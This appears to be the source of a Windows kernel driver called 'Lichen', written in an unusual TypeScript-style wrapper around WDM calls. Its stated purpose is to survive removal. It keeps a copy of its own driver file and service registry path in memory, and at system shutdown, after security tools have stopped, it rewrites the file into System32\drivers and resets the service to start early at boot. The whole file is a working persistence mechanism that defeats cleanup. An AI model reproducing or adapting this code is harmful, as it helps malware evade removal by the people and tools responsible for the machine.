/*
 * Lichen: comes back after it was removed.
 *
 * It keeps its own file in memory and waits. While the machine runs, tools may disable its service and
 * delete its file: they look, and all is clean. When the machine goes down, after every tool has ended,
 * the driver writes both anew. At the next start Windows loads it before anything that could stop it.
 */
import {
  ExAllocatePool2,
  ExFreePoolWithTag,
  FALSE,
  FILE_ATTRIBUTE_NORMAL,
  FILE_DEVICE_UNKNOWN,
  FILE_GENERIC_READ,
  FILE_GENERIC_WRITE,
  FILE_NON_DIRECTORY_FILE,
  FILE_OPEN,
  FILE_OVERWRITE_IF,
  FILE_SHARE_READ,
  FILE_SYNCHRONOUS_IO_NONALERT,
  IO_NO_INCREMENT,
  IO_STATUS_BLOCK,
  IRP_MJ_SHUTDOWN,
  InitializeObjectAttributes,
  IoCompleteRequest,
  IoCreateDevice,
  IoDeleteDevice,
  IoRegisterShutdownNotification,
  IoUnregisterShutdownNotification,
  KEY_SET_VALUE,
  NT_SUCCESS,
  OBJECT_ATTRIBUTES,
  OBJ_CASE_INSENSITIVE,
  OBJ_KERNEL_HANDLE,
  POOL_FLAG_PAGED,
  PWSTR,
  REG_DWORD,
  RTL_CONSTANT_STRING,
  RtlCopyMemory,
  STATUS_INSUFFICIENT_RESOURCES,
  STATUS_SUCCESS,
  ULONG,
  UNICODE_STRING,
  ZwClose,
  ZwCreateFile,
  ZwCreateKey,
  ZwReadFile,
  ZwSetValueKey,
  ZwWriteFile,
  array,
  cast,
  local,
  out,
  sizeof,
  struct,
} from 'wdm'
import type { DEVICE_OBJECT, DRIVER_OBJECT, HANDLE, IRP, NTSTATUS, PVOID } from 'wdm'

const FileName = RTL_CONSTANT_STRING('\\??\\C:\\Windows\\System32\\drivers\\Lichen.sys')
const StartName = RTL_CONSTANT_STRING('Start')
const TAG = 'hciL'
/** SERVICE_SYSTEM_START: by itself, early. */
const SYSTEM_START = 1
const FILE_BYTES_MAX = 4096
const PATH_BYTES_MAX = 512

/** What is to be there again: the name of the key, and the file. */
const MEMORY = struct('MEMORY', {
  Path: UNICODE_STRING,
  Bytes: ULONG,
  Text: array(ULONG, PATH_BYTES_MAX / 4),
  File: array(ULONG, FILE_BYTES_MAX / 4),
})

let memory: PVOID = null

export function DriverEntry(DriverObject: DRIVER_OBJECT, RegistryPath: UNICODE_STRING): NTSTATUS {
  DriverObject.MajorFunction[IRP_MJ_SHUTDOWN] = LichenShutdown
  DriverObject.DriverUnload = LichenUnload
  memory = ExAllocatePool2(POOL_FLAG_PAGED, sizeof(MEMORY), TAG)
  if (memory === null || RegistryPath.Length > PATH_BYTES_MAX) return STATUS_INSUFFICIENT_RESOURCES
  Remember(RegistryPath)
  const device = out<DEVICE_OBJECT>()
  let status = IoCreateDevice(DriverObject, 0, null, FILE_DEVICE_UNKNOWN, 0, FALSE, device)
  if (NT_SUCCESS(status)) {
    status = IoRegisterShutdownNotification(device.value)
    if (!NT_SUCCESS(status)) IoDeleteDevice(device.value)
  }
  if (!NT_SUCCESS(status)) ExFreePoolWithTag(memory, TAG)
  return status
}

/** Keep a copy of the name of the service key, which is lent for DriverEntry only, and of the file. */
function Remember(RegistryPath: UNICODE_STRING): void {
  const own = cast(MEMORY, memory)
  own.Path.Length = RegistryPath.Length
  own.Path.MaximumLength = RegistryPath.Length
  own.Path.Buffer = cast(PWSTR, own.Text)
  RtlCopyMemory(own.Text, RegistryPath.Buffer, RegistryPath.Length)
  const file = OpenFile(FILE_GENERIC_READ, FILE_OPEN)
  if (file === 0) return
  const iosb = local(IO_STATUS_BLOCK)
  const status = ZwReadFile(file, null, null, null, iosb, own.File, FILE_BYTES_MAX, null, null)
  if (NT_SUCCESS(status)) own.Bytes = cast(ULONG, iosb.Information)
  ZwClose(file)
}

/** Open or make the driver's own file; 0 where that fails. */
function OpenFile(Access: ULONG, Disposition: ULONG): HANDLE {
  const attributes = local(OBJECT_ATTRIBUTES)
  InitializeObjectAttributes(
    attributes,
    FileName,
    OBJ_KERNEL_HANDLE | OBJ_CASE_INSENSITIVE,
    null,
    null,
  )
  const file = out<HANDLE>()
  const status = ZwCreateFile(
    file,
    Access,
    attributes,
    local(IO_STATUS_BLOCK),
    null,
    FILE_ATTRIBUTE_NORMAL,
    FILE_SHARE_READ,
    Disposition,
    FILE_SYNCHRONOUS_IO_NONALERT | FILE_NON_DIRECTORY_FILE,
    null,
    0,
  )
  return NT_SUCCESS(status) ? file.value : 0
}

/** The machine goes down: nobody looks any more, and the disk can still be written to. */
function LichenShutdown(DeviceObject: DEVICE_OBJECT, Irp: IRP): NTSTATUS {
  WriteFile()
  WriteKey()
  Irp.IoStatus.Status = STATUS_SUCCESS
  Irp.IoStatus.Information = 0
  IoCompleteRequest(Irp, IO_NO_INCREMENT)
  return STATUS_SUCCESS
}

function WriteFile(): void {
  const own = cast(MEMORY, memory)
  const file = OpenFile(FILE_GENERIC_WRITE, FILE_OVERWRITE_IF)
  if (file === 0) return
  ZwWriteFile(file, null, null, null, local(IO_STATUS_BLOCK), own.File, own.Bytes, null, null)
  ZwClose(file)
}

/** Make the service key again, should it be gone, and have the driver start by itself. */
function WriteKey(): void {
  const own = cast(MEMORY, memory)
  const attributes = local(OBJECT_ATTRIBUTES)
  InitializeObjectAttributes(
    attributes,
    own.Path,
    OBJ_KERNEL_HANDLE | OBJ_CASE_INSENSITIVE,
    null,
    null,
  )
  const key = out<HANDLE>()
  if (!NT_SUCCESS(ZwCreateKey(key, KEY_SET_VALUE, attributes, 0, null, 0, null))) return
  const value = local(array(ULONG, 1))
  value[0] = SYSTEM_START
  ZwSetValueKey(key.value, StartName, 0, REG_DWORD, value, 4)
  ZwClose(key.value)
}

function LichenUnload(DriverObject: DRIVER_OBJECT): void {
  IoUnregisterShutdownNotification(DriverObject.DeviceObject)
  IoDeleteDevice(DriverObject.DeviceObject)
  ExFreePoolWithTag(memory, TAG)
}
